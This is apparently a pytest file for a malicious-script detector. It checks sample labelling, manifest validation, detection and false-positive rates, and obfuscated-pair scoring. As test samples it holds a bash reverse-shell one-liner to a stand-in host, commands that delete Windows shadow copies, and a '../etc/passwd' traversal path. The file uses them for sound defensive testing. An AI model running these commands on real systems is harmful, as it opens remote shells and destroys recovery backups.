"""Evaluation: labels from a manifest or the folder layout, rates, pairs, thresholds."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from inspector.config import Settings
from inspector.evaluation import EvaluationError, SampleResult, Thresholds, evaluate, load_samples, summarise

THRESHOLDS = Thresholds(min_detection=0.95, max_fp=0.01, min_pairs=0.95)
REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
SHADOWS = "vssadmin delete shadows /all /quiet\r\nwmic shadowcopy delete\r\n"
ADMIN = "apt-get update && apt-get install -y nginx\nsystemctl enable nginx\n"


def write(root: Path, relative: str, text: str) -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def result(path: str, label: str, verdict: str, language: str = "shell", original: str | None = None,
           family: str = "f") -> SampleResult:
    return SampleResult(path=path, label=label, family=family, language=language,
                        obfuscation="none" if original is None else "x", original=original, verdict=verdict,
                        score=0, complete=True, elapsed_ms=1.0)


def test_labels_languages_and_families_come_from_the_folder_layout(tmp_path: Path) -> None:
    write(tmp_path, "malicious/shell/reverse_shell/a.sh", REVERSE_SHELL)
    write(tmp_path, "benign/cmd/b.cmd", "echo hi")
    samples = {s.path: s for s in load_samples(tmp_path)}
    assert samples["malicious/shell/reverse_shell/a.sh"].label == "malicious"
    assert samples["malicious/shell/reverse_shell/a.sh"].family == "reverse_shell"
    assert samples["benign/cmd/b.cmd"].language == "cmd"


def test_a_manifest_cannot_point_outside_the_corpus(tmp_path: Path) -> None:
    (tmp_path / "manifest.jsonl").write_text(json.dumps({"path": "../etc/passwd", "label": "benign"}) + "\n")
    with pytest.raises(EvaluationError, match="leaves the corpus"):
        load_samples(tmp_path)


def test_a_manifest_with_an_unknown_label_is_refused(tmp_path: Path) -> None:
    (tmp_path / "manifest.jsonl").write_text(json.dumps({"path": "a.sh", "label": "maybe"}) + "\n")
    with pytest.raises(EvaluationError, match="label"):
        load_samples(tmp_path)


def test_an_empty_folder_is_not_a_corpus(tmp_path: Path) -> None:
    with pytest.raises(EvaluationError, match="no samples"):
        load_samples(tmp_path)


def test_rates_pairs_and_failures_are_computed_per_language() -> None:
    results = [
        result("m/1.sh", "malicious", "malicious"),
        result("m/2.sh", "malicious", "clean"),
        result("m/o1.sh", "malicious", "suspicious", original="m/1.sh"),
        result("m/o2.sh", "malicious", "clean", original="m/2.sh"),  # original missed: not a pair
        result("m/3.ps1", "malicious", "malicious", language="powershell"),
        result("b/1.sh", "benign", "clean"),
        result("b/2.sh", "benign", "suspicious"),
    ]
    report = summarise(Path("c"), results, THRESHOLDS, 1.0)
    assert report.detection_by_language["shell"].rate == 0.5
    assert report.detection_by_language["powershell"].rate == 1.0
    assert report.false_positives.rate == 0.5
    assert (report.obfuscated_pairs.pairs, report.obfuscated_pairs.detected) == (1, 1)
    assert [m.path for m in report.misses] == ["m/2.sh", "m/o2.sh"]
    assert [f.path for f in report.false_positive_samples] == ["b/2.sh"]
    assert not report.passed
    assert any("shell" in f for f in report.failures) and any("false positives" in f for f in report.failures)


def test_a_small_corpus_through_the_real_pipeline(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    write(corpus, "malicious/shell/a.sh", REVERSE_SHELL)
    write(corpus, "malicious/cmd/b.cmd", SHADOWS)
    write(corpus, "benign/shell/c.sh", ADMIN)
    records = [
        {"path": "malicious/shell/a.sh", "label": "malicious", "family": "reverse_shell", "language": "shell"},
        {"path": "malicious/cmd/b.cmd", "label": "malicious", "family": "ransomware", "language": "cmd"},
        {"path": "benign/shell/c.sh", "label": "benign", "family": "web_server", "language": "shell"},
    ]
    (corpus / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    report = evaluate(corpus, Settings(data_dir=tmp_path / "data", fetch=False), THRESHOLDS)
    assert report.passed, report.failures
    assert report.detection.hits == 2 and report.false_positives.hits == 0
    assert report.detection_by_family["ransomware"].rate == 1.0
    assert all(r.complete for r in report.results)


def test_a_sample_over_the_input_limit_is_refused(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    write(corpus, "malicious/shell/big.sh", "#" * 4096)
    with pytest.raises(EvaluationError, match="INSPECTOR_MAX_INPUT_BYTES"):
        evaluate(corpus, Settings(data_dir=tmp_path / "data", fetch=False, max_input_bytes=1024), THRESHOLDS)
